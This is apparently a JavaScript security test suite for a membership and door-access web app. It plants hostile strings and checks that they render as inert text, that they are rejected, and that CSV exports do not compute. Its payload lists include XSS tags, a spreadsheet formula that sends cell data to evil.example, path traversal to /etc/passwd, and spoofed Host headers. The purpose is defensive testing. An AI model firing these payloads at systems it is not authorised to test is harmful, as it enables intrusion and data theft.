// SPDX-License-Identifier: Apache-2.0
// Texts, addresses and headers that mean harm: shown as text on every view, exported safely, refused kindly.
import { connect } from 'node:net';
import { journey, site } from './browser.mjs';
import { over_socket } from './site.mjs';

// hxNN finds them again
const TEXTS = [
	'hx01 <script>alert(1)</script>',
	'hx02 <img src=x onerror=alert(2)>',
	'"hx03" onmouseover="alert(3)" x="',
	"'hx04' autofocus onfocus='alert(4)'",
	'javascript:alert("hx05")',
	'=HYPERLINK("https://evil.example/?x="&A1,"hx06")',
	"+hx07|' /C calc'!A0",
	'@SUM(1,2) hx08',
	'-2+3 hx09',
	'\u202Ehx10 txet sdrawkcab',
	'hx11 \u2066\u2067\u2068 isolates left open',
	'hx12 \u202A\u202B\u202D embeddings left open',
	'hx13 \u05E9\u05DC\u05D5\u05DD (admin)',
	`hx14 ${'e\u0301\u0302\u0303\u0308\u0316\u0317'.repeat(9)}`,
	'h\u200Bx\u200D15\uFEFF \u2060zero',
	'hx16 👩🏽‍🚀🏳️‍🌈👨‍👩‍👧‍👦',
	`hx17${'W'.repeat(190)}`,
	'hx18 {name} {n} ${7*7} {{7*7}} %s%n',
	'__proto__ hx19',
	'hx20 &lt;b&gt; &#x3c; <!-- ]]> \\u003c',
	'hx21 \u2028 \u2029 lines',
	'hx22 ﷽﷽﷽﷽﷽﷽',
	'hx23 </textarea></title></style></select><svg onload=alert(23)>',
	'2026-99-99T99:99 hx24',
];
const REFUSED = {
	'a NUL': 'a\u0000b',
	'a line end': 'a\nb',
	'an escape': 'a\u001b[31mb',
	'a control of the upper half': 'a\u0085b',
	'a megabyte': 'x'.repeat(1 << 20),
	'half a pair': '"\\ud800"',
	'a tab': '\tx',
};
const ADDRESSES = [
	'#/<script>alert(1)</script>',
	'#/members/%00',
	'#/members/%ff%fe',
	'#/members/../../etc/passwd',
	'#/__proto__',
	'#/constructor',
	'#/toString/1',
	'#/members/99999999999999999999',
	'#/members/1e3',
	'#/members/-1',
	'#/members/17%2F..%2F..%2Fsite',
	'#//evil.example/',
	'#javascript:alert(1)',
	'#/log?reason=<script>alert(1)</script>&door=%00',
	'#/log?from=javascript:alert(1)&cursor=%22',
	`#/members?text=${'%F0%9F%9A%AA'.repeat(300)}`,
	'#/checkin/%3Cimg%20src=x%20onerror=alert(1)%3E',
	'#/reports/9999-99',
	'#/hours/../..',
	'#/rollcall?__proto__=1',
	`#/${'a/'.repeat(500000)}`,
];

/** Everything of a site that has a free text, once with each: [{text, status, path}]; those that were refused among it. */
async function plant() {
	const made = [];
	const post = async (text, path, body, method = 'POST') => {
		const answer = await over_socket(`${site.work}/hub.sock`, method, path, body);
		made.push({ text, path, status: answer.status, id: answer.body?.id, why: answer.body?.detail });
		return answer.body?.id;
	};
	const today = new Date(),
		day = (n) => new Date(today.getTime() + n * 86400000).toISOString().slice(0, 10);
	const at = (hours) => new Date(today.getTime() + hours * 3600000).toISOString().replace(/\.\d+Z/, 'Z');
	const event = await post('', '/events', { title: 'hx99 the list', starts: at(-1), ends: at(3), door: 'front' });

	for (const [i, text] of TEXTS.entries()) {
		const short = Buffer.byteLength(text) > 80 ? text.slice(0, 20) : text;
		const tier = await post(text, '/tiers', { name: text, hours: '24/7' });
		const member = await post(text, '/members', { name: text, contact: text, note: text, tier: tier ?? 1 });
		const card = await post(text, '/cards', { member, uid: `04bad0${String(i).padStart(2, '0')}aa8080`, label: text });
		await post(text, `/cards/${card}/revoke`, { why: text });
		await post(text, '/events', { title: text, room: text, note: text, starts: at(i), ends: at(i + 1) });
		await post(text, `/events/${event}/guests`, { name: text, walk_in: i % 2 === 0 });
		await post(text, '/exceptions', { kind: 'closure', from: day(300 + i), to: day(300 + i), reason: short });
		await post(text, '/pools', { name: text, kind: 'days', limit: 5 });
		await post(text, '/presence', { member, inside: true, why: text });
	}
	await post(TEXTS[1], '/site', { title: TEXTS[1] }, 'PATCH');
	await post(TEXTS[9], '/doors/front', { title: TEXTS[9] }, 'PATCH');
	await post(TEXTS[16], '/doors/back', { title: TEXTS[16] }, 'PATCH');
	return made;
}

let planted = null;

/* Runs in the page: what was shown, what was not text, what can turn the text around it. */
function look() {
	const shown = new Set(),
		loose = new Set(),
		walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
	const turns = /[\u202A-\u202E\u2066-\u2069\u0590-\u08FF\uFB1D-\uFDFF\uFE70-\uFEFC]/;

	while (walker.nextNode()) {
		const text = walker.currentNode.textContent,
			found = /h\u200B?x\u200D?\d\d/.exec(text);
		if (!found) continue;
		shown.add(found[0].replace(/[\u200B\u200D]/g, ''));
		if (!turns.test(text)) continue;
		for (let node = walker.currentNode.parentElement; node; node = node.parentElement) {
			const { display, unicodeBidi } = getComputedStyle(node);
			if (
				node.tagName === 'OPTION' ||
				(/isolate|plaintext/.test(unicodeBidi) && node.textContent.trim() === text.trim())
			)
				break;
			if (!display.startsWith('inline') || display === 'inline-block' || display === 'inline-flex') {
				if (node.textContent.trim() !== text.trim())
					loose.add(`${node.tagName.toLowerCase()}.${node.className}: ${node.textContent.trim().slice(0, 60)}`);
				break;
			}
		}
	}
	return {
		shown: [...shown],
		loose: [...loose],
		alive: [
			...document.querySelectorAll(
				'body script:not([src^="/w/"]), body style, iframe, object, embed, body link, img:not([src^="blob:"]), [onerror], [onload], [onmouseover], [onfocus], [autofocus][onfocus], a[href^="javascript:" i]',
			),
		].map((node) => node.outerHTML.slice(0, 100)),
	};
}

/* Nothing was drawn for a tenth of a second. */
const calm = (page) =>
	page.evaluate(
		() =>
			new Promise((done) => {
				let timer = setTimeout(done, 100);

				new MutationObserver(() => {
					clearTimeout(timer);
					timer = setTimeout(done, 100);
				}).observe(document.body, { subtree: true, childList: true, characterData: true });
			}),
	);

const routes_of = (page) =>
	page.evaluate(async () =>
		(await import(document.querySelector('script[src$="/main.js"]').src)).routes.map((route) => route.name),
	);

const PLANTED = `<!doctype html><main><p>hx10 \u202Ebackwards and <b>what follows</b></p><p><bdi>hx11 \u2067</bdi> after</p>
<div>hx13 \u05E9</div><div>seen by <span>hx14 \u05E9</span> at noon</div><p onmouseover="x()">hx15</p><a href="javascript:x()">hx16</a></main>`;

journey(
	'what looks for them',
	async ({ page, check, problems }) => {
		await page.route('**/', (route) => route.fulfill({ contentType: 'text/html; charset=utf-8', body: PLANTED }));
		await page.goto('/');
		const { shown, loose, alive } = await page.evaluate(look);
		await check('finds texts', shown.length === 6);
		await check(
			'finds what turns the writing around it, and only that',
			loose.length === 2 && loose.every((one) => /hx10|hx14/.test(one)),
		);
		await check('finds what is alive', alive.length === 2);
		problems.length = 0;
	},
	{ sizes: ['desktop'] },
);

journey('hostile texts', async ({ page, check, login, go, fits, size, shot }) => {
	planted ??= await plant();
	const taken = planted.filter(({ status }) => status < 300),
		turned_away = planted.filter(({ status }) => status >= 300);
	const seen = new Set();
	if (size === 'desktop')
		await check(
			'the hub takes what is only text',
			taken.length >= planted.length * 0.9,
			JSON.stringify(turned_away, null, 1),
		);
	await login('admin');
	const ids = (path) => taken.filter((one) => one.path === path).map(({ id }) => id);
	const walk = (await routes_of(page))
		.map((name) => `#/${name}`)
		.concat([
			'#/members?text=hx',
			'#/members?text=hx2',
			`#/members/${ids('/members')[1]}`,
			`#/members/${ids('/members')[9]}`,
			`#/members/${ids('/members')[16]}`,
			`#/checkin/${ids('/events')[0]}`,
		]);
	for (const route of walk) {
		await go(route);
		await calm(page); // what is drawn after its data
		const { shown, loose, alive } = await page.evaluate(look);
		shown.forEach((one) => seen.add(one));
		await check(`${route}: nothing of them came alive`, !alive.length, alive.join('\n'));
		await check(`${route}: what turns the writing turns itself alone`, !loose.length, loose.join('\n'));
		await fits(route);
		if (route === '#/audit')
			await check('no name hides what operators did', () => page.locator('.pager tbody tr').count());
	}
	await go('#/members?text=hx');
	await shot('hostile-members');
	await check(
		'they were seen as text',
		TEXTS.every((_, i) => seen.has(`hx${String(i + 1).padStart(2, '0')}`)),
		`seen: ${[...seen].sort().join(' ')}`,
	);
});

journey(
	'hostile addresses',
	async ({ page, check, login, expect_failures, until }) => {
		expect_failures(/^GET \/api\/v1\/.* 4\d\d/);
		await login('admin');
		for (const address of ADDRESSES) {
			await page.evaluate((to) => {
				document.querySelector('main h1').id = 'old';
				location.hash = to;
			}, address);
			await check(`${address.slice(0, 40)} is answered`, () =>
				page.evaluate(() => Boolean(document.querySelector('main h1:not(#old)')?.textContent)),
			);
			const { alive } = await page.evaluate(look);
			await check(`${address.slice(0, 40)} leaves nothing behind`, !alive.length, alive.join('\n'));
		}
		await page.evaluate(() => (location.hash = '#/now'));
		await check('and the page goes on', page.locator('.view[data-view=now][data-ready="1"]'));
	},
	{ sizes: ['desktop'] },
);

/** What the hub says to bytes as they are. */
function raw(bytes) {
	return new Promise((done) => {
		const socket = connect(Number(new URL(site.url).port), '127.0.0.1');
		let said = '';
		socket.setTimeout(8000, () => socket.destroy());
		socket.on('data', (part) => (said += part.toString('latin1')));
		socket.on('error', () => {});
		socket.on('close', () => done(Number(/^HTTP\/1\.1 (\d+)/.exec(said)?.[1] ?? 0)));
		socket.write(bytes);
	});
}

journey(
	'hostile bytes',
	async ({ check, api }) => {
		const host = `Host: ${new URL(site.url).host}\r\n`,
			end = 'Connection: close\r\n\r\n';
		const asked = {
			'a header of a megabyte': `GET / HTTP/1.1\r\n${host}X: ${'x'.repeat(1 << 20)}\r\n${end}`,
			'ten thousand headers': `GET / HTTP/1.1\r\n${host}${'A: b\r\n'.repeat(10000)}${end}`,
			'a NUL in a header': `GET / HTTP/1.1\r\n${host}X: a\0b\r\n${end}`,
			'two hosts': `GET / HTTP/1.1\r\n${host}Host: evil.example\r\n${end}`,
			'a strange host': `GET /api/v1/session HTTP/1.1\r\nHost: evil.example\r\n${end}`,
			'a cookie that is none': `GET /api/v1/session HTTP/1.1\r\n${host}Cookie: tapin=<script>; tapin=\xff\xfe; =; ;;; tapin\r\n${end}`,
			'a cookie of 60 kB': `GET /api/v1/session HTTP/1.1\r\n${host}Cookie: tapin=${'x'.repeat(60000)}\r\n${end}`,
			'a path of a megabyte': `GET /${'a'.repeat(1 << 20)} HTTP/1.1\r\n${host}${end}`,
			'a path upwards': `GET /w/../../../etc/passwd HTTP/1.1\r\n${host}${end}`,
			'a path with %00': `GET /w/%00/index.html HTTP/1.1\r\n${host}${end}`,
			'a length that lies': `POST /api/v1/session HTTP/1.1\r\n${host}Content-Type: application/json\r\nContent-Length: -1\r\n${end}{}`,
			'no HTTP at all': '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n',
		};
		for (const [what, bytes] of Object.entries(asked)) {
			const status = await raw(bytes),
				good = status < 500 && (status < 200 || status >= 300 || /headers|NUL|hosts/.test(what));
			await check(`${what} gets no page and no error of the hub`, good, status);
		}
		await check('the hub goes on', async () => (await api('GET', '/status')).status === 200);
		for (const [what, text] of Object.entries(REFUSED)) {
			const body = what === 'half a pair' ? `{"name": ${text}, "tier": 1}` : { name: text, tier: 1 };
			const answer = await api('POST', '/members', body);
			await check(
				`${what} in a name is refused with a reason`,
				answer.status >= 400 && answer.status < 500 && Boolean(answer.body.detail),
			);
		}
	},
	{ sizes: ['desktop'] },
);

/** The cells of a CSV, quotes undone. */
const cells = (text) =>
	[...text.matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/g)].map(
		(found) => found[1]?.replaceAll('""', '"') ?? found[2] ?? '',
	);
const computed = (text) => cells(text).filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));

journey(
	'what is exported',
	async ({ page, check, login, go }) => {
		await login('admin', '#/log');
		for (const path of ['/log?limit=500', `/reports/${new Date().toISOString().slice(0, 7)}`]) {
			const answer = await page.request.get(`/api/v1${path}`, { headers: { Accept: 'text/csv' } });
			const bad = computed(await answer.text());
			await check(
				`${path} as CSV has no cell that computes`,
				answer.ok() && !bad.length,
				`${answer.status()} ${bad.join('\n')}`,
			);
		}
		for (const name of await routes_of(page)) {
			await go(`#/${name}`);
			for (const button of await page
				.locator('main :is(button, a)')
				.filter({ hasText: /csv|spreadsheet/i })
				.all()) {
				if (!(await button.isVisible()) || !(await button.isEnabled())) continue;
				const saved = page.waitForEvent('download', { timeout: 5000 }).catch(() => null);
				await button.click();
				const file = await saved;
				if (!file)
					// it asks something first
					continue;
				const { readFile } = await import('node:fs/promises');
				const bad = computed(await readFile(await file.path(), 'utf8'));
				await check(`${name}: ${file.suggestedFilename()} has no cell that computes`, !bad.length, bad.join('\n'));
			}
		}
	},
	{ sizes: ['desktop'] },
);
